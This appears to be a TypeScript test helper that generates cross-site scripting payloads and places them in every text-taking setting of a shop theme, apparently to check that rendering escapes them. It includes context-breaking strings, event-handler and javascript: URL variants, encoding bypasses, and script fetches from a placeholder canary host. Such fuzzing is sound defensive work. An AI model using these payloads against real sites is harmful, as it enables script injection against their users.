import { FIELD_NAMES, FIELDS } from '../../src/theme/fields.ts'
import { SECTION_KINDS, SECTION_NAMES, type SettingInput } from '../../src/theme/section-kinds.ts'
import { FOOTER_TYPES, HEADER_TYPES } from '../../src/theme/variants.ts'

/** Calls `ran()` of the page, or asks a host that no page asks. */
const RUNS = ['ran(1)', "fetch('https://canary.example.test/')", "import('https://canary.example.test/a.js')"]
/** What ends the place that a text stands in: an attribute, an element of raw text, a comment, a string, a style, an address. */
const ENDS = [
  ...['', '"', "'", '">', "'>", '`>', '/>', '=', '\\"', "\\'", '\u2028', '\u0000">', '\u00a0">'],
  ...['</script>', '</style>', '</title>', '</textarea>', '</noscript>', '</template>', '</xmp>', '</iframe>', '</a>'],
  ...['-->', '--!>', ']]>', '*/', '}', ')', ';', '"}</script>', '&quot;>', '&#34;>', '%22%3E', '\\u0022\\u003e'],
]
const TAGS = [
  ...[
    'script',
    'img src=x',
    'svg',
    'iframe',
    'details open',
    'video',
    'audio src',
    'body',
    'input autofocus',
    'a href=/',
  ],
  ...['math', 'object', 'embed', 'marquee', 'style', 'link rel=stylesheet', 'meta', 'base', 'form', 'x-shop'],
]
const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onclick', 'onpointerover', 'onanimationstart', 'onbegin']
const ADDRESSES = [
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', ' \u0001javascript:', 'javascript&colon;', '&#106;avascript:'],
  ...['data:text/html,<script>', 'vbscript:', 'blob:javascript:', 'view-source:javascript:', 'javascript://%0a'],
]
const SPELLINGS: ((text: string) => string)[] = [
  (text) => text.toUpperCase().replaceAll('RAN(', 'ran('),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;'),
  (text) => text.replaceAll('<', '\\u003c'),
  (text) => encodeURIComponent(text),
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\n'),
  (text) => text.replaceAll('<', '＜'),
  (text) => `${text}<!--`,
]

/** Texts that would run a script where they are written into a page unescaped. The same ones every time, the more the further they vary. */
export function hostileTexts(count: number): string[] {
  const at = <T>(list: readonly T[], index: number): T => list[index % list.length] as T // no list is empty
  return Array.from({ length: count }, (_, index) => {
    const run = at(RUNS, index)
    const step = Math.floor(index / RUNS.length)
    const address = `${at(ADDRESSES, step)}${run}`
    const tag = at(TAGS, step * 3 + 1)
    const element = [
      `<${tag} ${at(HANDLERS, step)}=${run}>`,
      `<script>${run}</script>`,
      `<a href="${address}">x</a>`,
      `<iframe src="${address}"></iframe>`,
      `<${tag} ${at(HANDLERS, step * 5)}="${run}" x="`,
      address,
      `{{${run}}}\${${run}}`,
    ][step % 7]!
    const text = `${at(ENDS, step * 7 + index)}${element}`
    return index % 2 === 0 ? text : at(SPELLINGS, index >> 1)(text)
  })
}

type Next = () => string
/** A theme with hostile texts in every setting that takes a text, an address, a picture, a menu, HTML or a list. */
export function hostileTheme(texts: readonly string[], turn: number): object {
  let index = turn
  const next: Next = () => texts[index++ % texts.length] ?? ''
  const fields = FIELD_NAMES.map((name): [string, unknown] => [name, hostileValue(FIELDS[name].control, next)])
  return {
    ...Object.fromEntries(fields.filter(([, value]) => value !== undefined)),
    header_type: HEADER_TYPES[turn % HEADER_TYPES.length],
    footer_type: FOOTER_TYPES[turn % FOOTER_TYPES.length],
    is_use_footer_html: turn % 2 === 0,
    [next().slice(0, 60)]: next(),
  }
}

function hostileValue(control: string, next: Next): unknown {
  if (control === 'switch') return true
  if (control === 'menu')
    return [0, 1, 2].map(() => ({
      ...entry(next),
      children: [entry(next), { ...entry(next), children: [entry(next)] }],
    }))
  if (control === 'benefits') return [{ name: next(), image_url: next(), content: next() }]
  if (control === 'pictures') return [{ image_url: picture(next), link_to: next() }, { image_url: next() }]
  if (control === 'sections') return SECTION_NAMES.map((kind) => ({ kind, id: `s-${kind}`, ...settings(kind, next) }))
  if (control === 'image') return picture(next)
  if (control === 'html')
    return `<p>Chân trang</p>${next()}<a href="${next()}">a</a><img src="/media/a.png" alt="${next()}">${next()}`
  return next() // also where only a colour, a number or a word is taken
}
const entry = (next: Next) => ({ name: next(), link_to: next(), image: next() })
/** Accepted as an address of ours, with the text as its name. */
const picture = (next: Next) => `/media/${next().slice(0, 200)}.png`

function settings(kind: keyof typeof SECTION_KINDS, next: Next): object {
  return Object.fromEntries(
    Object.entries<{ input: SettingInput }>(SECTION_KINDS[kind])
      .filter(([, { input }]) => input !== 'choice')
      .map(([name, { input }]) => [name, input === 'image' ? picture(next) : next()]),
  )
}
